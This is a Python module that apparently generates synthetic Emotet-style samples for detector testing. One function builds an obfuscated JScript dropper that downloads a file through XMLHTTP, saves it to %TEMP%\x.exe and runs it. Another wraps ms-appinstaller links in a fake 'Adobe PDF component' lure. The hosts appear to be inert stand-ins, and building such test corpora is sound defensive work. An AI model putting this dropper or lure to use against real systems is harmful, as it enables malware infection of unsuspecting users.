"""What Emotet's mails carried besides documents: the JavaScript of 2018 to 2019, and links."""

from __future__ import annotations

import base64
from random import Random

from support import dropper_draws as droppers
from support.carriers.mails import mail
from support.carriers.sample import EMOTET, Sample, zipped
from support.carriers.word import file_name
from support.draws import letters
from support.pdf_files import linked
from support.script_files import page


def in_array(draw: Random) -> str:
    """Words in base64 in an array that is turned by a count, and fetched by number: ``var a=['...``."""
    words = ["WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream", "GET", "open", "send", "responseBody", "SaveToFile", "Run",
             "%TEMP%\\x.exe", *droppers.sites(draw)]  # fmt: skip
    listed = ",".join(f"'{base64.b64encode(word.encode()).decode()}'" for word in words)
    a, b = f"{letters(draw, 3, 3)}0", f"_0x{draw.getrandbits(16):04x}"
    get = [f"{b}('0x{number:x}')" for number in range(len(words))]
    urls = ",".join(get[10:])
    return (
        f"var a=[{listed}];(function(c,d){{var e=function(f){{while(--f){{c['push'](c['shift']());}}}};"
        f"e(++d);}}(a,0x{len(words):x}));"
        f"var {b}=function(c,d){{c=c-0x0;var e=a[c];return atob(e);}};var {a}=new ActiveXObject({get[0]});"
        f"var h=new ActiveXObject({get[1]}),s=new ActiveXObject({get[2]});var u=[{urls}];"
        f"for(var i in u)try{{h[{get[4]}]({get[3]},u[i],false);"
        f"h[{get[5]}]();s.Open();s.Type=1;s.Write(h[{get[6]}]);s[{get[7]}]({get[9]},2);{a}[{get[8]}]({get[9]},0,false);break;}}catch(e){{}}"
    )


def javascript(draw: Random) -> Sample:
    """In a zip, in UTF-16 without a mark."""
    text = (
        in_array(draw) if draw.random() < 0.5 else droppers.javascript(draw, droppers.sites(draw), draw.choice(droppers.JAVASCRIPT))
    )
    member = f"{draw.choice(('INV', 'DOC', 'Rechnung'))}_{draw.randint(100, 10**6)}.js"
    data = text.encode("utf-16-le") if draw.random() < 0.7 else text.encode()
    return Sample(file_name(draw, "zip"), zipped({member: data}), EMOTET, ("script-dropper",), (member,))


def installer_link(draw: Random) -> str:
    """An address that makes Windows install an app from a server."""
    host = draw.choice((f"192.0.2.{draw.randint(1, 254)}", f"{letters(draw, 8, 12)}-inert.z13.web.core.windows.net"))
    return f"ms-appinstaller:?source=https://{host}/{letters(draw, 5, 9)}.appinstaller"


def app_installer(draw: Random) -> Sample:
    """2021-12: a page, a PDF or a mail with the link. Others used it as well, and it carries no mark of Emotet's: no name."""
    link, kinds = installer_link(draw), ("app-installer-link",)
    shown = page(f'<p>Adobe PDF component</p><a href="{link}">Preview PDF</a>')
    which = draw.randrange(3)
    if which == 0:
        return Sample(file_name(draw, "html"), shown, None, kinds)
    if which == 1:
        return Sample(file_name(draw, "pdf"), linked([link]), None, kinds)
    return Sample("mail.eml", mail(draw, "Please see the attached report.", {}, shown.decode()), None, kinds)
